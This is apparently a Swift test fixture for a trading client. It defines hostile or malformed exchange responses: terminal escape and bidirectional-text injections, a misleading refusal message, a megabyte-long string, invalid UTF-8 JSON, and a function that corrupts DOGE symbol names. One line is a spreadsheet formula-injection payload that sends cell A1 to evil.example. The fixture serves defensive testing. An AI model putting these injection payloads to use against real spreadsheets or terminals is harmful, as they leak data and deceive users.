/// What a hostile or broken venue might send.
enum HostileText {
  /// Colours, a title, a cleared screen, bidirectional and zero-width marks, C1 controls.
  static let message =
    "\u{1B}[2J\u{1B}[31mall is well\u{1B}[0m \u{1B}]0;owned\u{7}\u{9B}5m"
    + "\u{202E}deilppa\u{202C}\u{2066}\u{200B}\u{FEFF}\r\nleverage applied\u{8}\u{0}\u{7F}"

  /// What a venue says that refuses what it has applied.
  static let falseRefusal = "The leverage could not be changed"

  /// A formula that would send a spreadsheet's cell to somebody else.
  static let formula = #"=HYPERLINK("https://evil.example/?"&A1,"applied")"#

  /// A megabyte of words.
  static let hugeMessage = String(repeating: "leverage ", count: 116_509)

  /// Bytes that are neither JSON nor UTF-8.
  static let malformedBody: [UInt8] =
    Array(#"{"code":0,"data":{"leverage":"#.utf8) + [0xFF, 0xFE, 0xC3] + Array("}]".utf8)

  /// Writes an escape sequence and a bidirectional mark into every contract of DOGE.
  static func spoilingSymbols(in body: Answer.Body) -> Answer.Body {
    guard case .bytes(let bytes) = body else { return body }
    let name = Array("DOGE".utf8)
    let spoiled = Array(#"DO\u001b[2J\u202eGE"#.utf8)
    var result: [UInt8] = []
    var index = 0
    while index < bytes.count {
      if bytes[index] == name[0], bytes[index...].starts(with: name) {
        result.append(contentsOf: spoiled)
        index += name.count
      } else {
        result.append(bytes[index])
        index += 1
      }
    }
    return .bytes(result)
  }
}
